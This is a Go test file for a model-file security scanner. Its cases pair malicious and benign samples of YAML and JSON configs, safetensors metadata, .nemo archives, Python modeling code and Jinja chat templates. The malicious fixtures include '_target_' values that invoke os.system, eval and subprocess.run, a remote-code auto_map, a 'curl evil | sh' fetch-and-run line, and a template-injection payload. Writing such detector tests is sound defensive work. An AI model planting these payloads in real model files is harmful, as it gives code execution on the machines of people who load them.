@@ -1,0 +1,76 @@
+package modelscan
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"encoding/binary"
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+// safetensorsWith is a safetensors file with one tensor and metadata.
+func safetensorsWith(meta string) []byte {
+	h := []byte(`{"__metadata__":{"config":` + meta + `},"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`)
+	var b bytes.Buffer
+	binary.Write(&b, binary.LittleEndian, uint64(len(h)))
+	b.Write(h)
+	b.Write([]byte{0, 0, 0, 0})
+	return b.Bytes()
+}
+
+func nemoArchive(config string) []byte {
+	var b bytes.Buffer
+	gz := gzip.NewWriter(&b)
+	tw := tar.NewWriter(gz)
+	for name, body := range map[string]string{"./model_config.yaml": config, "./model_weights.ckpt": "\x80\x02}q\x00."} {
+		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
+		tw.Write([]byte(body))
+	}
+	tw.Close()
+	gz.Close()
+	return b.Bytes()
+}
+
+// TestConfigStage: what configs, shipped Python and templates make a
+// loader instantiate or run, each with a benign twin that stays clean.
+func TestConfigStage(t *testing.T) {
+	cases := []struct {
+		name string
+		data []byte
+		want string // highest severity
+		rule string
+	}{
+		{"model_config.yaml", []byte("model:\n  encoder:\n    _target_: os.system\n    _args_: [\"id\"]\n"), Critical, "config.instantiation"},
+		{"benign_config.yaml", []byte("model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n  optim:\n    _target_: torch.optim.Adam\n"), "none", ""},
+		{"unknown_config.yaml", []byte("trainer:\n  _target_: somepkg.helpers.build\n"), Medium, "config.unknown-target"},
+		{"hparams.json", []byte(`{"head": {"_target_": "builtins.eval", "_args_": ["1+1"]}}`), Critical, "config.instantiation"},
+		{"meta.safetensors", safetensorsWith(`"{\"_target_\": \"subprocess.run\"}"`), Critical, "config.instantiation"},
+		{"benign_meta.safetensors", safetensorsWith(`"{\"format\": \"pt\"}"`), "none", ""},
+		{"model.nemo", nemoArchive("model:\n  _target_: posix.system\n"), Critical, "config.instantiation"},
+		{"benign.nemo", nemoArchive("model:\n  _target_: nemo.collections.nlp.models.TokenClassificationModel\n"), "none", ""},
+		{"config.json", []byte(`{"architectures": ["X"], "auto_map": {"AutoModel": "evil/repo--modeling_x.XModel"}}`), High, "config.remote-code"},
+		{"shipped_config.json", []byte(`{"auto_map": {"AutoModel": "modeling_x.XModel"}}`), Medium, "config.shipped-code"},
+		{"modeling_x.py", []byte("import os\nclass X:\n    def __init__(self):\n        os.system('curl evil | sh')\n"), Critical, "python.dangerous-call"},
+		{"modeling_ok.py", []byte("import os\nimport torch\nclass X(torch.nn.Module):\n    def load(self, d):\n        return os.path.join(d, 'w.bin')\n"), "none", ""},
+		{"chat_template.jinja", []byte("{{ ''.__class__.__mro__[1].__subclasses__() }}"), Critical, "template.injection"},
+		{"benign_chat_template.jinja", []byte("{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"), "none", ""},
+	}
+	dir := t.TempDir()
+	s := newTestScanner(t)
+	for _, c := range cases {
+		p := filepath.Join(dir, c.name)
+		os.WriteFile(p, c.data, 0o644)
+		f := s.ScanFile(context.Background(), p)
+		var rules []string
+		for _, x := range f.Findings {
+			rules = append(rules, x.Rule)
+		}
+		if f.Error != "" || highest(f) != c.want || c.rule != "" && !slices.Contains(rules, c.rule) {
+			t.Errorf("%s: highest %s %v (error %q), want %s %s", c.name, highest(f), rules, f.Error, c.want, c.rule)
+		}
+	}
+}
